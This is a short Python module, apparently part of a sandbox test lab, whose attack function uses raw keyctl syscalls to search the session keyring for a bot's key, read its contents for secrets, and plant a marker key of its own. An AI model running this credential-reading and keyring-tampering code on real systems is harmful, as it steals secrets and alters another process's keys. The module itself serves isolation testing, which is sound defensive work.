"""Reads a key of the bot's in the ring that processes inherit, and leaves one of its own there."""

from __future__ import annotations

import ctypes
from contextlib import suppress
from typing import Any

from tests.lab.attacks.programs.inside import call, secrets_in

SESSION = -3


def attack(world: dict[str, Any]) -> dict[str, Any]:
    kind, held = ctypes.c_char_p(b"user"), ctypes.create_string_buffer(256)
    said: dict[str, Any] = {"secrets": [], "added": False}
    with suppress(OSError):
        key = call("keyctl", 10, SESSION, kind, ctypes.c_char_p(world["key"].encode()), 0)  # KEYCTL_SEARCH
        call("keyctl", 11, key, held, 256)  # KEYCTL_READ
        said["secrets"] = secrets_in(held.raw)
    with suppress(OSError):
        call("add_key", kind, ctypes.c_char_p(b"viva-left"), ctypes.c_char_p(b"x"), 1, -2)
        said["added"] = True
    return said
